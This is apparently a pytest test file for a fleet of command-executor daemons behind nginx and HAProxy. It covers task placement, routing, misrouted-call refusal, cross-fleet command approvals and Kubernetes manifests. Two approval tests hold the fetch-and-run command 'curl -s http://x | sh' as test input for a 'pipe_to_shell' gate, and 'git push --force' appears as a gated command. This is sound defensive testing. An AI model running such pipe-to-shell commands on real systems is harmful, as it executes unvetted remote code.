"""Several daemons, one fleet: the placement rule, owners that refuse strangers, real nginx and
HAProxy in front of three real daemons, approvals across the fleet, and the Kubernetes manifest."""

from __future__ import annotations

import io
import queue
import tarfile
import threading
import zlib
from collections import Counter
from pathlib import Path

import grpc
import pytest
import yaml

from executor import placement
from executor.client import Client, ExecutorError, Unavailable
from executor.config import load_config
from executor.fleet import Fleet, FleetApprovals, pick_target
from executor.routing import routing_task
from executor.v1 import executor_pb2 as pb
from executor.v1 import executor_pb2_grpc as pb_grpc
from tests.daemon import DaemonProcess
from tests.infra import fleet as infra

ROOT = Path(__file__).resolve().parents[1]
PROXIES = ("nginx", "haproxy")


# -- the placement rule ------------------------------------------------------------------------


def test_slot_is_nginx_hash_first_pick():
    """The slot is what nginx's ``hash`` (not consistent) computes first: ((crc32 >> 16) & 0x7fff)
    modulo the total weight, 256 here (its source: ngx_http_upstream_get_hash_peer)."""
    for task in ("a", "task-42", "ünï", "x" * 128):
        h = (zlib.crc32(task.encode()) >> 16) & 0x7FFF
        assert placement.slot_of(task) == h % 256
    weights = placement.runs(["a", "b", "c"])
    assert sum(w for _, w in weights) == placement.SLOTS
    # nginx's walk over weighted servers in config order ends on the slot's owner
    table = placement.slot_table(["a", "b", "c"])
    for slot in range(placement.SLOTS):
        w = slot
        for member, weight in weights:
            if w < weight:
                break
            w -= weight
        assert member == table[slot]


def test_placement_is_stable_balanced_and_moves_little():
    members = [f"executor-{i}" for i in range(4)]
    tasks = [f"task-{i}" for i in range(4000)]
    owner = {t: placement.owner_of(t, members) for t in tasks}
    assert owner == {t: placement.owner_of(t, list(reversed(members))) for t in tasks}  # order does not matter
    counts = Counter(owner.values())
    assert all(700 < n < 1300 for n in counts.values()), counts
    grown = members + ["executor-4"]
    moved = [t for t in tasks if placement.owner_of(t, grown) != owner[t]]
    assert all(placement.owner_of(t, grown) == "executor-4" for t in moved)  # only tasks for the new member move
    assert 500 < len(moved) < 1100
    assert pick_target("task-1", members) == owner["task-1"]


def test_ids_name_their_task_and_the_client_derives_the_header():
    assert placement.task_of(placement.with_task("p-0123456789abcdef", "my.task-1")) == "my.task-1"
    assert placement.task_of("p-0123456789abcdef") == ""
    assert routing_task(pb.ExecRequest(task_id="t1", command="x")) == "t1"
    assert routing_task(pb.GetProcessRequest(process_id="p-1@t2")) == "t2"
    assert routing_task(pb.ResolveApprovalRequest(approval_id="abc@t3")) == "t3"
    assert routing_task(pb.PtyInput(open=pb.PtyOpen(task_id="t4"))) == "t4"
    assert routing_task(pb.PutArchiveChunk(task_id="t5")) == "t5"
    assert routing_task(pb.ListBackendsRequest()) == ""


def test_deploy_proxy_configs_are_the_generated_ones():
    """deploy/nginx.conf and deploy/haproxy.cfg are exactly what the generator writes for the
    StatefulSet in deploy/kubernetes.yaml (the tests below run the same generator's output)."""
    from scripts.gen_fleet_deploy import haproxy_cfg, nginx_conf

    assert (ROOT / "deploy" / "nginx.conf").read_text() == nginx_conf()
    assert (ROOT / "deploy" / "haproxy.cfg").read_text() == haproxy_cfg()


def test_fleet_config_is_validated(tmp_path):
    path = tmp_path / "c.yaml"
    path.write_text("fleet: {member: x, members: [a, b]}\n")
    with pytest.raises(Exception, match="not in members"):
        load_config(path)
    path.write_text("fleet: {member: a, members: [a, b]}\nstreams: {heartbeat_seconds: 5}\n")
    config = load_config(path)
    assert config.fleet.members == ["a", "b"] and config.streams.heartbeat_seconds == 5


# -- a real fleet: three daemons, nginx and HAProxy ----------------------------------------------------


@pytest.fixture(scope="module")
def fleet(tmp_path_factory):
    reason = infra.missing_proxies()
    if reason:
        pytest.skip(reason)
    f = infra.TestFleet(tmp_path_factory.mktemp("fleet")).start()
    yield f
    f.stop()


def _client(target: str) -> Client:
    return Client(target, token=infra.AGENT, deadline=60)


@pytest.mark.parametrize("proxy", PROXIES)
def test_each_task_lands_on_its_owner(fleet, proxy):
    prefix = f"own-{proxy}"
    tasks = [f"{prefix}-{i}" for i in range(12)]
    with _client(fleet.proxies[proxy].target) as c:
        for i, t in enumerate(tasks):
            assert c.run(t, f"export MINE={i}").exit.status == pb.EXIT_STATUS_COMPLETED
        for i, t in enumerate(tasks):
            assert c.run(t, "echo $MINE").stdout == f"{i}\n".encode()  # the same shell every time
    for member in infra.MEMBERS:  # each daemon's own ListTasks: exactly the tasks it owns
        assert fleet.tasks_on(member, prefix) == sorted(t for t in tasks if fleet.owner(t) == member)
    assert len({fleet.owner(t) for t in tasks}) == 3


def _tar(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.mark.parametrize("proxy", PROXIES)
def test_streams_processes_files_and_pty_through_the_proxy(fleet, proxy):
    task = fleet.task_for("executor-2", f"streams-{proxy}")
    with _client(fleet.proxies[proxy].target) as c:
        events = list(c.exec(task, "for i in 1 2 3; do echo line$i; sleep 0.2; done"))
        assert b"".join(e.stdout for e in events) == b"line1\nline2\nline3\n"
        assert events[-1].exit.status == pb.EXIT_STATUS_COMPLETED

        # a background process, reached by its id alone (the id names its task)
        p = c.start_process(task, "read x; echo got:$x; sleep 0.3; echo end")
        assert placement.task_of(p.process_id) == task
        c.write_stdin(p.process_id, b"hello\n", close=True)
        followed = b"".join(ch.data for ch in c.follow_output(p.process_id))
        assert followed == b"got:hello\nend\n"
        assert c.wait_process(p.process_id, 10).state == pb.PROCESS_STATE_EXITED
        assert c.read_output(p.process_id).data == b"got:hello\nend\n"
        assert c.get_process(p.process_id).task_id == task
        assert [x.process_id for x in c.list_processes(task).processes] == [p.process_id]
        q = c.start_process(task, "sleep 30")
        assert c.signal_process(q.process_id, "SIGKILL").process_id == q.process_id

        # files
        c.put_archive(task, ".", _tar("hello.txt", b"through the proxy"))
        with tarfile.open(fileobj=io.BytesIO(c.get_archive(task, "hello.txt"))) as tar:
            assert tar.extractfile(tar.getmembers()[0]).read() == b"through the proxy"
        c.write_file(task, "sub/one.txt", b"one file", make_parents=True)
        assert c.read_file(task, "sub/one.txt") == b"one file"

        # an interactive terminal
        echoed, ended = threading.Event(), threading.Event()

        def feed():
            yield pb.PtyInput(open=pb.PtyOpen(task_id=task, command="cat"))
            yield pb.PtyInput(data=b"pty-hello\n")
            echoed.wait(30)
            yield pb.PtyInput(data=b"\x04")
            ended.wait(30)

        out, last = b"", None
        try:
            for last in c.pty(feed(), rpc_timeout=60):
                if last.WhichOneof("output") == "data":
                    out += last.data
                    if out.count(b"pty-hello") >= 2:  # the terminal's echo and cat's copy
                        echoed.set()
                elif last.WhichOneof("output") == "exit":
                    break
        finally:
            echoed.set()
            ended.set()
        assert out.count(b"pty-hello") >= 2, out
        assert last.exit.status == pb.EXIT_STATUS_COMPLETED
    assert fleet.tasks_on("executor-2", task) == [task]
    assert fleet.tasks_on("executor-0", task) == fleet.tasks_on("executor-1", task) == []


@pytest.mark.parametrize("proxy", PROXIES)
def test_the_async_client_is_routed_too(fleet, proxy):
    import asyncio

    from executor.client import AsyncClient

    task = fleet.task_for("executor-1", f"async-{proxy}")

    async def go() -> None:
        async with AsyncClient(fleet.proxies[proxy].target, token=infra.AGENT, deadline=60) as c:
            assert (await c.run(task, "export A=7")).exit.status == pb.EXIT_STATUS_COMPLETED
            out = b"".join([e.stdout async for e in c.exec(task, "echo $A")])
            assert out == b"7\n"
            p = await c.start_process(task, "echo bg")
            assert b"".join([ch.data async for ch in c.follow_output(p.process_id)]) == b"bg\n"
            await c.put_archive(task, ".", _tar("a.txt", b"async"))
            assert b"async" in await c.get_archive(task, "a.txt")

    asyncio.run(go())
    assert fleet.tasks_on("executor-1", task) == [task]


def _expect_refused(call, owner: str) -> None:
    with pytest.raises(grpc.RpcError) as info:
        result = call()
        if hasattr(result, "__iter__") and not isinstance(result, (bytes, pb.ProcessInfo)):
            list(result)
    assert info.value.code() == grpc.StatusCode.FAILED_PRECONDITION, info.value.details()
    assert f"fleet member {owner!r}" in info.value.details()


def test_a_misrouted_call_is_refused_on_every_entry_point(fleet):
    """Straight to a daemon that does not own the task (as a proxy with another placement would
    send it): every entry point refuses with FAILED_PRECONDITION naming the owner; nothing starts."""
    owner = "executor-0"
    task = fleet.task_for(owner, "misrouted")
    # a real process and approval of the task, on its owner
    with _client(fleet.targets[owner]) as c:
        proc = c.start_process(task, "sleep 30")
    stranger = fleet.targets["executor-1"]
    channel = grpc.insecure_channel(stranger)
    stub = pb_grpc.ExecutorStub(channel)
    md = [("authorization", f"Bearer {infra.AGENT}")]
    amd = [("authorization", f"Bearer {infra.APPROVER}")]
    pid = proc.process_id
    calls = {
        "Exec": lambda: stub.Exec(pb.ExecRequest(task_id=task, command="true"), metadata=md, timeout=20),
        "Run": lambda: stub.Run(pb.ExecRequest(task_id=task, command="true"), metadata=md, timeout=20),
        "Run needing approval": lambda: stub.Run(pb.ExecRequest(task_id=task, command="git push --force"),
                                                 metadata=md, timeout=20),
        "StartProcess": lambda: stub.StartProcess(pb.StartProcessRequest(task_id=task, command="sleep 1"),
                                                  metadata=md, timeout=20),
        "Pty": lambda: stub.Pty(iter([pb.PtyInput(open=pb.PtyOpen(task_id=task, command="cat"))]), metadata=md,
                                timeout=20),
        "PutArchive": lambda: stub.PutArchive(iter([pb.PutArchiveChunk(task_id=task, path=".", data=_tar("f", b"x"))]),
                                              metadata=md, timeout=20),
        "GetArchive": lambda: stub.GetArchive(pb.GetArchiveRequest(task_id=task, path="."), metadata=md, timeout=20),
        "ReadFile": lambda: stub.ReadFile(pb.ReadFileRequest(task_id=task, path="f"), metadata=md, timeout=20),
        "WriteFile": lambda: stub.WriteFile(iter([pb.WriteFileChunk(task_id=task, path="f", data=b"x")]), metadata=md,
                                            timeout=20),
        "CloseTask": lambda: stub.CloseTask(pb.CloseTaskRequest(task_id=task), metadata=md, timeout=20),
        "CheckCommand": lambda: stub.CheckCommand(pb.CheckCommandRequest(task_id=task, command="ls"), metadata=md,
                                                  timeout=20),
        "ListProcesses": lambda: stub.ListProcesses(pb.ListProcessesRequest(task_id=task), metadata=md, timeout=20),
        "GetProcess": lambda: stub.GetProcess(pb.GetProcessRequest(process_id=pid), metadata=md, timeout=20),
        "ReadProcessOutput": lambda: stub.ReadProcessOutput(pb.ReadProcessOutputRequest(process_id=pid), metadata=md,
                                                            timeout=20),
        "StreamProcessOutput": lambda: stub.StreamProcessOutput(pb.StreamProcessOutputRequest(process_id=pid),
                                                                metadata=md, timeout=20),
        "WaitProcess": lambda: stub.WaitProcess(pb.WaitProcessRequest(process_id=pid), metadata=md, timeout=20),
        "WriteProcessStdin": lambda: stub.WriteProcessStdin(pb.WriteProcessStdinRequest(process_id=pid, data=b"x"),
                                                            metadata=md, timeout=20),
        "SignalProcess": lambda: stub.SignalProcess(pb.SignalProcessRequest(process_id=pid, signal="KILL"),
                                                    metadata=md, timeout=20),
        "ResolveApproval": lambda: stub.ResolveApproval(pb.ResolveApprovalRequest(
            approval_id=placement.with_task("0" * 32, task), decision=pb.APPROVAL_DECISION_APPROVE_ONCE),
            metadata=amd, timeout=20),
        "WatchApprovals": lambda: stub.WatchApprovals(pb.WatchApprovalsRequest(task_id=task), metadata=amd,
                                                      timeout=20),
    }
    try:
        for name, call in calls.items():
            try:
                _expect_refused(call, owner)
            except AssertionError as exc:
                raise AssertionError(f"{name}: {exc}") from None
    finally:
        channel.close()
    assert fleet.tasks_on("executor-1", task) == []  # no second shell, no sandbox
    with _client(fleet.targets[owner]) as c:  # the owner's process was not touched
        assert c.get_process(pid).state == pb.PROCESS_STATE_RUNNING
        c.signal_process(pid, "SIGKILL")


@pytest.mark.parametrize("proxy", PROXIES)
def test_a_call_forced_to_another_member_through_the_proxy_is_refused(fleet, proxy):
    task = fleet.task_for("executor-1", f"forced-{proxy}")
    channel = grpc.insecure_channel(fleet.proxies[proxy].target)
    try:
        stub = pb_grpc.ExecutorStub(channel)
        with pytest.raises(grpc.RpcError) as info:
            stub.Run(pb.ExecRequest(task_id=task, command="true"), timeout=20,
                     metadata=[("authorization", f"Bearer {infra.AGENT}"), ("x-executor-member", "executor-2")])
        assert info.value.code() == grpc.StatusCode.FAILED_PRECONDITION
        assert "'executor-1'" in info.value.details()
        # without any routing header the proxy refuses, it never spreads calls
        with pytest.raises(grpc.RpcError) as info:
            stub.ListTasks(pb.ListTasksRequest(), metadata=[("authorization", f"Bearer {infra.AGENT}")], timeout=20)
        assert info.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    finally:
        channel.close()


@pytest.mark.parametrize("proxy", PROXIES)
def test_quiet_commands_outlive_the_proxy_idle_timeout(fleet, proxy):
    """The proxies' timeouts are 4 s here; the daemons send a heartbeat after 1 s of quiet."""
    quiet = infra.PROXY_TIMEOUT + 2.5
    task = fleet.task_for("executor-0", f"quiet-{proxy}")
    with _client(fleet.proxies[proxy].target) as c:
        events = list(c.exec(task, f"sleep {quiet}; echo done", rpc_timeout=60))
        assert events[-1].exit.status == pb.EXIT_STATUS_COMPLETED
        assert b"".join(e.stdout for e in events) == b"done\n"
        assert any(e.HasField("heartbeat") and e.WhichOneof("event") is None for e in events)

        p = c.start_process(task, f"sleep {quiet}; echo late")
        chunks = list(c.follow_output(p.process_id))
        assert b"".join(ch.data for ch in chunks) == b"late\n"
        assert any(ch.heartbeat for ch in chunks) and chunks[-1].exited.state == pb.PROCESS_STATE_EXITED

        outputs = list(c.pty(iter([pb.PtyInput(open=pb.PtyOpen(task_id=task, command=f"sleep {quiet}; echo pty"))]),
                             rpc_timeout=60))
        assert outputs[-1].exit.status == pb.EXIT_STATUS_COMPLETED
        assert b"pty" in b"".join(o.data for o in outputs)
        assert any(o.HasField("heartbeat") and o.WhichOneof("output") is None for o in outputs)

        # the control: Run is unary (no heartbeat can flow), so the proxy's timeout does end it
        with pytest.raises(ExecutorError) as info:
            c.run(task, f"sleep {quiet}", rpc_timeout=60)
        assert info.value.code in (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.UNKNOWN,
                                   grpc.StatusCode.INTERNAL), info.value


@pytest.mark.parametrize("proxy", PROXIES)
def test_cancelling_through_the_proxy_kills_the_command(fleet, proxy):
    """With heartbeats flowing: the client cancels after the first heartbeat; the command's tree is
    killed on the owner (the proxy passes the cancel on, the heartbeat layer lets go of the stream)."""
    from tests.daemon import count_processes, wait_for

    marker = f"fleet-cancel-{proxy}-marker"
    task = fleet.task_for("executor-1", f"cancel-{proxy}")
    with _client(fleet.proxies[proxy].target) as c:
        stream = c.exec(task, f"exec -a {marker} sleep 60", rpc_timeout=120)
        for event in stream:
            if event.HasField("heartbeat"):
                break
        assert count_processes(marker) == 1
        stream.close()  # cancels the call
        assert wait_for(lambda: count_processes(marker) == 0, 20), "the command outlived its cancelled call"
        assert c.run(task, "echo still-here").stdout == b"still-here\n"  # the task's shell lives on


def test_an_always_approval_given_once_holds_on_every_member(fleet):
    proxy = fleet.proxies["nginx"].target
    tasks = {m: fleet.task_for(m, "always") for m in infra.MEMBERS}
    command = "git push --force 2>/dev/null; echo pushed"
    with FleetApprovals(fleet.targets, token=infra.APPROVER) as approvals, _client(proxy) as c:
        seen: queue.Queue = queue.Queue()

        def watch():
            try:
                for item in approvals.watch():
                    seen.put(item)
            except Exception as exc:  # the fleet is torn down at the end
                seen.put(exc)

        threading.Thread(target=watch, daemon=True).start()
        result: dict = {}
        runner = threading.Thread(target=lambda: result.update(r=c.run(tasks["executor-1"], command)), daemon=True)
        runner.start()
        item = seen.get(timeout=30)
        assert item.member == "executor-1" and item.approval.rule == "git_force_push"
        assert placement.task_of(item.approval.approval_id) == tasks["executor-1"]
        resolution = approvals.resolve(item.approval.approval_id, "always", reason="fleet test")
        assert resolution.owner == "executor-1"
        assert resolution.shared == {"executor-0": "stored", "executor-2": "stored"}
        runner.join(30)
        assert result["r"].stdout == b"pushed\n"
        for member, task in tasks.items():  # every member now lets it through, without asking
            assert c.check_command(command, task_id=task).decision == pb.GATE_DECISION_ALLOW, member
            events = list(c.exec(task, command))
            assert not any(e.WhichOneof("event") == "approval_required" for e in events), member
            assert b"".join(e.stdout for e in events) == b"pushed\n"
        # sharing needs the approve role, and never grants what a member's own gate would not ask for
        with pytest.raises(grpc.RpcError) as info, _client(fleet.targets["executor-0"]) as agent:
            agent.stub.ShareApproval(pb.ShareApprovalRequest(backend="local", rule="pipe_to_shell",
                                                             command="curl -s http://x | sh"),
                                     metadata=[("authorization", f"Bearer {infra.AGENT}")], timeout=10)
        assert info.value.code() == grpc.StatusCode.PERMISSION_DENIED
        with Client(fleet.targets["executor-0"], token=infra.APPROVER) as a:
            with pytest.raises(grpc.RpcError) as info:
                a.stub.ShareApproval(pb.ShareApprovalRequest(backend="local", rule="git_force_push", command="ls"),
                                     metadata=[("authorization", f"Bearer {infra.APPROVER}")], timeout=10)
            assert info.value.code() == grpc.StatusCode.FAILED_PRECONDITION


def test_the_cli_watches_and_decides_across_the_fleet(fleet, capsys):
    """`executor approvals --fleet` lists every member's pending approvals; `executor approve ...
    --fleet` decides on the owner (here: deny, so no always-approval leaks into other tests)."""
    import json
    import os
    import subprocess
    import sys

    from executor.cli import main

    spec = ",".join(f"{m}={t}" for m, t in fleet.targets.items())
    task = fleet.task_for("executor-2", "cli-approvals")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    watcher = subprocess.Popen([sys.executable, "-m", "executor", "approvals", "--fleet", spec, "--json",
                                "--token", infra.APPROVER], stdout=subprocess.PIPE, text=True, env=env)
    result: dict = {}
    with _client(fleet.proxies["haproxy"].target) as c:
        runner = threading.Thread(target=lambda: result.update(r=c.run(task, "curl -s http://x | sh")), daemon=True)
        runner.start()
        try:
            line = json.loads(watcher.stdout.readline())
        finally:
            watcher.kill()
            watcher.wait()
        assert line["member"] == "executor-2" and line["task_id"] == task and line["rule"] == "pipe_to_shell"
        assert main(["approve", line["approval_id"], "deny", "--fleet", spec, "--token", infra.APPROVER]) == 0
        assert "on executor-2" in capsys.readouterr().out
        runner.join(30)
    assert result["r"].exit.status == pb.EXIT_STATUS_DENIED
    assert main(["fleet", "owner", task, "--members", spec]) == 0
    assert capsys.readouterr().out.strip() == "executor-2"
    assert main(["fleet", "proxy-config", "--format", "nginx", "--members", spec]) == 0
    assert capsys.readouterr().out == placement.nginx_upstream(fleet.targets)


def test_fleet_client_places_like_the_proxies(fleet):
    with Fleet(fleet.targets, token=infra.AGENT, deadline=60) as f:
        for i in range(6):
            task = f"fleetclient-{i}"
            assert f.owner(task) == fleet.owner(task)
            assert f.run(task, "true").exit.status == pb.EXIT_STATUS_COMPLETED
        listed = {m: sorted(t.task_id for t in r.tasks if t.task_id.startswith("fleetclient-"))
                  for m, r in f.list_tasks().items()}
    assert listed == {m: fleet.tasks_on(m, "fleetclient-") for m in infra.MEMBERS}


def test_a_stopped_owner_gives_unavailable_never_a_second_shell(fleet):
    """Last in this module: it stops a member (and starts it again)."""
    victim = "executor-2"
    task = fleet.task_for(victim, "stopped")
    with _client(fleet.proxies["nginx"].target) as c:
        assert c.run(task, "export KEEP=1").exit.status == pb.EXIT_STATUS_COMPLETED
    fleet.daemons[victim].stop()
    try:
        for proxy in PROXIES:
            with _client(fleet.proxies[proxy].target) as c:
                for _ in range(3):  # again and again: never re-homed
                    with pytest.raises(Unavailable):
                        c.run(task, "echo $KEEP")
                    with pytest.raises(Unavailable):
                        list(c.exec(task, "echo $KEEP"))
        for member in ("executor-0", "executor-1"):
            assert fleet.tasks_on(member, task) == []
    finally:
        fleet.daemons[victim].start()
    with _client(fleet.proxies["haproxy"].target) as c:
        assert c.run(task, "echo back").stdout == b"back\n"


# -- the Kubernetes manifest ----------------------------------------------------------------------


def test_kubernetes_manifest_is_valid():
    import kubernetes_validate

    docs = [d for d in yaml.safe_load_all((ROOT / "deploy" / "kubernetes.yaml").read_text()) if d]
    kinds = Counter(d["kind"] for d in docs)
    assert kinds == Counter({"ConfigMap": 2, "StatefulSet": 1, "Deployment": 1, "Service": 2}), kinds
    assert all(doc["metadata"]["name"] != "executor" or doc["kind"] != "Deployment" for doc in docs)
    for doc in docs:
        kubernetes_validate.validate(doc, "1.30.0", strict=True)
    sts = next(d for d in docs if d["kind"] == "StatefulSet")
    container = sts["spec"]["template"]["spec"]["containers"][0]
    assert {"readinessProbe", "livenessProbe", "startupProbe"} <= set(container)
    assert sts["spec"]["template"]["spec"]["securityContext"]["runAsNonRoot"] is True
    assert sts["spec"]["replicas"] == 3 and sts["spec"]["podManagementPolicy"] == "Parallel"


def test_kubernetes_config_maps_are_valid_configs(tmp_path):
    docs = [d for d in yaml.safe_load_all((ROOT / "deploy" / "kubernetes.yaml").read_text()) if d]
    config_map = next(d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"] == "executor-config")
    for name in ("agent", "approver"):  # token files are mounted secrets in the cluster
        (tmp_path / name).write_text("x" * 32)
    for member in ("executor-0", "executor-2"):  # each pod is named by its host name (fleet.member empty)
        text = config_map["data"]["config.yaml"].replace("/etc/executor/tokens/", f"{tmp_path}/")
        data = yaml.safe_load(text)
        assert "member" not in data["fleet"]
        data["fleet"]["member"] = member
        path = tmp_path / "config.yaml"
        path.write_text(yaml.safe_dump(data))
        config = load_config(path)
        assert config.backend == "cloud" and config.tls is not None
        assert config.fleet.member == member and len(config.fleet.members) == 3
        assert config.streams.heartbeat_seconds > 0
    sts = next(d for d in docs if d["kind"] == "StatefulSet")
    assert sts["spec"]["replicas"] == len(config.fleet.members)
    from scripts.gen_fleet_deploy import MEMBERS

    assert sorted(MEMBERS) == sorted(config.fleet.members)
    proxy = next(d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"] == "executor-proxy")
    assert proxy["data"]["haproxy.cfg"] == (ROOT / "deploy" / "haproxy.cfg").read_text()


def test_the_deploy_proxy_configs_load_in_the_real_proxies(tmp_path):
    """nginx -t and haproxy -c accept deploy/ as written (certificates made here, member names
    pointed at loopback: nothing to resolve in a test)."""
    import shutil
    import subprocess

    reason = infra.missing_proxies()
    if reason:
        pytest.skip(reason)
    if not shutil.which("openssl"):
        pytest.skip("openssl is not installed (make test-infra installs it)")
    tls = tmp_path / "tls"
    tls.mkdir()
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=executor",
                    "-keyout", str(tls / "tls.key"), "-out", str(tls / "tls.crt")], check=True, capture_output=True)
    (tls / "ca.crt").write_bytes((tls / "tls.crt").read_bytes())
    pem = (tls / "tls.crt").read_bytes() + (tls / "tls.key").read_bytes()
    (tls / "client.pem").write_bytes(pem)
    (tls / "proxy.pem").write_bytes(pem)

    def local(text: str) -> str:
        for i in range(3):
            text = text.replace(f"executor-{i}.executor.default.svc.cluster.local:50051", f"127.0.0.1:{41000 + i}")
        text = text.replace("/etc/executor/tls/", f"{tls}/").replace("/etc/executor/proxy-tls/", f"{tls}/")
        return text.replace("/tmp/nginx.pid", str(tmp_path / "nginx.pid")).replace("parse-resolv-conf", "")

    (tmp_path / "nginx.conf").write_text(local((ROOT / "deploy" / "nginx.conf").read_text()))
    (tmp_path / "haproxy.cfg").write_text(local((ROOT / "deploy" / "haproxy.cfg").read_text()))
    (tmp_path / "logs").mkdir()
    r = subprocess.run([infra._binary("nginx"), "-t", "-p", str(tmp_path), "-c", str(tmp_path / "nginx.conf")],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    r = subprocess.run([infra._binary("haproxy"), "-c", "-f", str(tmp_path / "haproxy.cfg")], capture_output=True,
                       text=True)
    assert r.returncode == 0, r.stdout + r.stderr


def test_quiet_time_versus_deploy_timeouts():
    """The deploy proxies' timeouts are above the daemons' limits.max_timeout_seconds."""
    from executor.config import Limits

    assert "grpc_read_timeout 3700s;" in (ROOT / "deploy" / "nginx.conf").read_text()
    assert "timeout server 3700s" in (ROOT / "deploy" / "haproxy.cfg").read_text()
    assert Limits().max_timeout_seconds < 3700
    assert "grpc_next_upstream off;" in (ROOT / "deploy" / "nginx.conf").read_text()
    cfg = (ROOT / "deploy" / "haproxy.cfg").read_text()
    servers = [line for line in cfg.splitlines() if line.strip().startswith("server ")]
    assert "no option redispatch" in cfg and len(servers) == 3 and not any(" check" in line for line in servers)


def test_single_daemon_without_fleet_config_serves_any_task(tmp_path):
    d = DaemonProcess({"backend": "local", "backends": {"local": {"kind": "local", "isolation": "none"}}},
                      state_dir=tmp_path / "solo").start()
    try:
        with d.client() as c:
            assert c.run("any-task", "echo ok").stdout == b"ok\n"
            p = c.start_process("any-task", "true")
            assert placement.task_of(p.process_id) == "any-task"
    finally:
        d.kill()
